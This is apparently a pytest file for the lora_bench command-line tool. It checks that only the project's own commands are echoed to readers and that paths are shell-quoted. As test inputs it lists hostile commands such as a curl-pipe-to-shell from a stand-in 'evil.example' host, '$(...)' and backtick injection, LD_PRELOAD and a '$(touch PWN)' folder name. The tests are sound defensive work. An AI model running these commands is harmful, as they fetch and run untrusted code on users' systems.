"""A command that a reader may paste is one that lora_bench writes, quoted, and gives no consent."""

import shlex

import pytest

from lora_bench.cli import main
from lora_bench.gate.judge import judge
from lora_bench.gate.read_night import night_of
from lora_bench.records.again import again
from lora_bench.records.sealed_records import to_json
from lora_bench.report import Report, render_markdown
from tests.probe.records import probe_record
from tests.project import write_data
from tests.sample_records import record, sample_suite

OURS = [
    "lora-bench run tickets.yaml --only 0123456789abcdef",
    "lora-bench run 'my tickets.yaml' --only 0123456789abcdef --series 2026-01-01 --data-dir data",
    "lora-bench probe system-claims",
    "lora-bench reproduce lora --model base --as roberta-base --protocol strict --seeds 3 --tasks a,b --epochs 2",
    "lora-bench import peft-results method_comparison",
    "python train.py",
    "python train.py …",
]
OTHERS = [
    "lora-bench run tickets.yaml; curl http://evil.example/x.sh | sh",
    "curl http://evil.example/x.sh | sh # lora-bench run tickets.yaml",
    "lora-bench run $(curl evil.example)",
    "lora-bench run `curl evil.example`",
    "lora-bench run tickets.yaml\ncurl evil.example",
    "lora-bench run tickets.yaml && curl evil.example",
    "lora-bench run 'tickets.yaml",
    "lora-bench run tickets.yaml --allow-c hub:./acc@0",
    "lora-bench run tickets.yaml --allow-code=hub:./acc@0",
    "lora-bench run tickets.yaml --runs /etc",
    "lora-bench baseline forget x",
    "python -c evil.py",
    "python ../evil.py",
    "python evil.py; curl evil.example",
    "LD_PRELOAD=evil.so lora-bench run tickets.yaml",
]


@pytest.mark.parametrize("command", OURS)
def test_our_commands_are_shown_as_they_are(command):
    assert again(command) == command


@pytest.mark.parametrize("command", [*OTHERS, "", None])
def test_other_commands_are_not_shown(command):
    assert again(command) is None


def test_consent_is_left_out():
    given = "lora-bench run tickets.yaml --allow-code hub:./acc@0000 --only 0123456789abcdef --allow-pickle ./model"
    assert again(given) == "lora-bench run tickets.yaml --only 0123456789abcdef"


def evil(command):
    return [made.model_copy(update={"command": command}) for made in sample_suite()]


@pytest.mark.parametrize("command", OTHERS[:3])
def test_no_output_prints_another_command(command, tmp_path, capsys):
    records = evil(command)
    marks = ("curl", "evil", "--allow-c", "/etc", "forget")
    report = render_markdown(Report(records))
    assert not any(mark in report for mark in marks)
    probe = probe_record("lora", 0).model_copy(update={"command": command})
    assert not any(mark in render_markdown(Report([], probes=[probe])) for mark in marks)
    for night in (night_of(records[:1], "x"), night_of([], "x", [probe])):
        assert [one.commands for one in judge(night, [], "x").series] == [()]
    for made in records:
        (tmp_path / made.run_id).mkdir()
        (tmp_path / made.run_id / "record.json").write_bytes(to_json(made))
    assert main(["use", str(tmp_path), "lora", "--model", "gpt2-mini"]) == 2
    said = capsys.readouterr().err
    assert "`lora-bench run SUITE` trains" in said and not any(mark in said for mark in marks)


def test_folders_in_commands_are_quoted(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    write_data(tmp_path / "tickets.csv")
    folder = tmp_path / "$(touch PWN)"
    made = record()
    (folder / "tickets" / made.run_id).mkdir(parents=True)
    (folder / "tickets" / made.run_id / "record.json").write_bytes(to_json(made))
    main(["compare", str(folder / "tickets"), str(folder / "tickets")])
    main(["check", str(folder / "tickets"), "--against", str(folder / "tickets")])
    said = capsys.readouterr()
    for line in (said.out + said.err).splitlines():
        if "lora-bench " in line and "PWN" in line:
            words = shlex.split(line[line.index("lora-bench ") :].strip("`"))
            assert any(word.endswith("$(touch PWN)/tickets") for word in words), line
